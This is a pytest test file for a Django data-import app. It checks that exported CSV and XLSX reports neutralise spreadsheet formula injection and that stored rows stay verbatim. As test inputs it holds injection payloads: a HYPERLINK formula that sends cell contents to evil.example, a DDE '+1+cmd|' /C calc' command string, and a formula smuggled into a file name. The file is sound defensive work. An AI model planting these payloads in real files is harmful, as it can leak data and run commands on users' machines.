"""Every CSV the product hands out neutralises formula injection; stored data stays verbatim."""

from __future__ import annotations

import csv
import io
import zipfile
from typing import Any

import pytest
from django.test import Client

from formats.models import CsvFormat
from imports.services.uploads import review_approve
from imports.web.exports import safe_cell
from staging.models import StagedRow
from tests.imports.pipeline.test_pipeline import TRADES, upload

pytestmark = pytest.mark.django_db

HOSTILE = [
    ('=HYPERLINK("http://evil.example/?"&A1,"click")', "'=HYPERLINK"),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM"),
    ("\t=1+1", "'\t'=1+1"),
    ("\r=1+1", "'\r'=1+1"),
    ("-AED1", "'-AED1"),  # a cell reference, though AED is a currency code
    ("-$1800+A1", "'-$1800"),
    ("-1 SUM", "'-1 SUM"),
    ("-1 USD", "'-1 USD"),
]


@pytest.mark.parametrize(("value", "starts"), HOSTILE)
def test_safe_cell_prefixes_formula_looking_text(value: str, starts: str) -> None:
    assert str(safe_cell(value)).startswith(starts)


@pytest.mark.parametrize("value", ["-12.5", "+3", "-1e5", "0", "AAPL", "", "2024-03-01", "-$1800", "-1,234.50", "+€12"])
def test_safe_cell_leaves_numbers_and_plain_text_alone(value: str) -> None:
    assert safe_cell(value) == value
    assert safe_cell(-4) == -4


def test_the_error_report_csv_neutralises_formulas_and_the_stored_rows_stay_verbatim(
    client: Client, user: Any, reviewer: Any, run_jobs: Any, django_capture_on_commit_callbacks: Any
) -> None:
    text = (
        TRADES.splitlines()[0]
        + "\n"
        + (
            '2024-03-04 15:59:59,"=HYPERLINK(""http://evil.example"",""x"")",Sell,0,-5,0.50,USD,@SUM(A1:A9)\n'
            "2024-03-04 16:00:00,+1+cmd,Buy,0,12,0.50,USD,-2+3\n"
        )
    )
    file = upload(user, text=text, name="hostile.csv", run_jobs=run_jobs, capture=django_capture_on_commit_callbacks)
    with django_capture_on_commit_callbacks(execute=True):
        review_approve(format_id=file.format_id, actor=reviewer)
    run_jobs()
    client.force_login(user)
    response = client.get(f"/imports/{file.pk}/errors.csv")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    body = b"".join(response.streaming_content).decode().lstrip("\ufeff")
    header, first, second = list(csv.reader(io.StringIO(body)))
    assert first[1] == '\'=HYPERLINK("http://evil.example","x")' and first[7] == "'@SUM(A1:A9)"
    assert first[4] == "-5"  # a negative number stays a number
    assert second[1] == "'+1+cmd" and second[7] == "'-2+3"
    assert all(not cell.startswith(("=", "+", "@", "\t", "\r")) for row in (first, second) for cell in row)
    raw = list(StagedRow.objects.filter(file=file).order_by("line").values_list("raw", flat=True))
    assert raw[0][1] == '=HYPERLINK("http://evil.example","x")' and raw[1][7] == "-2+3"


SEPARATED = [
    ("x;=1+1", "x;'=1+1"),
    ("x, =1+1", "x, '=1+1"),
    ("a|@SUM(A1)", "a|'@SUM(A1)"),
    ("a\t+cmd", "a\t'+cmd"),
    ("a\n-2+3", "a\n'-2+3"),
    ('x;"=1+1', "x;\"'=1+1"),
    ("=1;=2", "'=1;'=2"),
]


@pytest.mark.parametrize(("value", "safe"), SEPARATED)
def test_safe_cell_neutralises_a_formula_after_a_separator_a_spreadsheet_may_split_on(value: str, safe: str) -> None:
    assert safe_cell(value) == safe


@pytest.mark.parametrize("value", ["1;-2", "1,5;-3.5", "AAPL;MSFT", "a - b", "x;y=1"])
def test_safe_cell_leaves_separated_numbers_and_plain_text_alone(value: str) -> None:
    assert safe_cell(value) == value


def test_the_error_reports_neutralise_a_formula_after_a_separator(
    client: Client, user: Any, reviewer: Any, run_jobs: Any, django_capture_on_commit_callbacks: Any
) -> None:
    text = TRADES.splitlines()[0] + "\n" + "2024-03-04 16:01:00,x;=1+1,Buy,0,12,0.50,USD,a|@SUM(A1)\n"
    file = upload(user, text=text, name="split.csv", run_jobs=run_jobs, capture=django_capture_on_commit_callbacks)
    with django_capture_on_commit_callbacks(execute=True):
        review_approve(format_id=file.format_id, actor=reviewer)
    run_jobs()
    client.force_login(user)
    body = b"".join(client.get(f"/imports/{file.pk}/errors.csv").streaming_content).decode().lstrip("\ufeff")
    _, row = list(csv.reader(io.StringIO(body)))
    assert row[1] == "x;'=1+1" and row[7] == "a|'@SUM(A1)", row
    response = client.get(f"/imports/{file.pk}/errors.xlsx")
    data = b"".join(response.streaming_content) if response.streaming else response.content
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        xml = "".join(book.read(name).decode() for name in book.namelist() if name.startswith("xl/"))
    xml = xml.replace("&apos;", "'").replace("&#39;", "'")
    # A workbook is not split: its cells are text cells holding the value as stored, never a formula.
    assert ">x;=1+1<" in xml and ">a|@SUM(A1)<" in xml and "<f>" not in xml
    raw = StagedRow.objects.get(file=file).raw
    assert raw[1] == "x;=1+1"  # stored verbatim


def test_the_format_export_neutralises_a_formula_in_a_format_name(
    user: Any, run_jobs: Any, django_capture_on_commit_callbacks: Any
) -> None:
    from formats.resources import CsvFormatResource

    file = upload(user, name="=cmd()+1.csv", run_jobs=run_jobs, capture=django_capture_on_commit_callbacks)
    # Formats are named after their columns now; an admin's rename can still start with '='.
    assert not file.format.name.startswith("=")
    CsvFormat.objects.filter(pk=file.format_id).update(name="=cmd()+1 (renamed)")
    exported = CsvFormatResource().export().csv
    rows = list(csv.DictReader(io.StringIO(exported)))
    names = [row["name"] for row in rows]
    assert any(name.startswith("'=cmd()+1") for name in names), names
    assert not any(name.startswith("=") for name in names)
